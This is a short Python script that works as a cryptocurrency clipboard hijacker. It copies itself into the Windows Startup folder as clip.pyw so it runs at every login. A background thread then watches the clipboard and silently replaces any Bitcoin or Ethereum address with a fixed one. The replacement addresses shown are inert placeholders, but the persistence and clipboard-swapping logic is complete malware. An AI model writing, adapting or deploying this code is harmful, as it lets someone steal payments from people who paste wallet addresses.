import os
import re
import shutil
import sys
import threading
import time

import pyperclip

_ADDRESSES = {
    r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$": "bc1qinertsampleinertsampleinertsample000",
    r"^0x[a-fA-F0-9]{40}$": "0x0000000000000000000000000000000000000000",
}


def _install():
    startup = os.path.join(os.getenv("APPDATA", ""), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
    if os.path.isdir(startup):
        shutil.copy(__file__, os.path.join(startup, "clip.pyw"))


def _watch():
    while True:
        text = pyperclip.paste()
        for pattern, mine in _ADDRESSES.items():
            if re.match(pattern, text or "") and text != mine:
                pyperclip.copy(mine)
        time.sleep(0.5)


_install()
threading.Thread(target=_watch, daemon=True).start()
